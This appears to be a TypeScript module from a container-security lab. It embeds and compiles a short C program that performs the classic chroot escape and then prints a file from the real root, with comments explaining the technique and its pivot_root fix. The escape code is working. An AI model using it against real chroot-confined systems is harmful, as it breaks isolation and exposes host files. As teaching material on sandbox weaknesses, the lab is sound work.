// The classic chroot escape (lesson 2), as a small C program compiled at lesson or grading time.
// chroot(2) changes where "/" resolves for one process; it does not move the process's working
// directory, and ".." from a directory outside the root is not stopped at the root. A process with
// CAP_SYS_CHROOT chroots into a subdirectory (its cwd is now outside its root), walks up with
// chdir(".."), and chroots into what it reached: the real root of its mount namespace.
// With pivot_root and the old root unmounted (lesson 3) there is nothing above to reach.
import { spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { LabError } from './errors.js';

export const ESCAPE_C = `/* escape.c: leave a chroot jail, then print a file of the real root. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
  const char *file = argc > 1 ? argv[1] : "/etc/hostname";
  mkdir("/tmp/.escape", 0700);
  if (chroot("/tmp/.escape") != 0) {   /* new root below us: our cwd is now outside it */
    perror("chroot /tmp/.escape");
    return 2;
  }
  for (int i = 0; i < 256; i++)        /* up and up: nothing stops ".." above the jail */
    if (chdir("..") != 0) break;
  if (chroot(".") != 0) {              /* make the top we reached our root */
    perror("chroot .");
    return 2;
  }
  int fd = open(file, O_RDONLY);
  if (fd < 0) {
    perror(file);
    return 1;
  }
  char buf[4096];
  ssize_t n;
  while ((n = read(fd, buf, sizeof buf)) > 0) fwrite(buf, 1, n, stdout);
  return 0;
}
`;

/** Write escape.c next to `out` and compile it statically (the rootfs has no libc). */
export function compileEscape(out: string): void {
  const src = `${out}.c`;
  writeFileSync(src, ESCAPE_C);
  const r = spawnSync('cc', ['-static', '-O1', '-o', out, src], { encoding: 'utf8' });
  if (r.error || r.status !== 0) {
    throw new LabError(`compiling the escape program failed: ${r.error?.message ?? r.stderr.trim()}`, 'install a C compiler and a static libc: apt-get install -y gcc libc6-dev');
  }
}
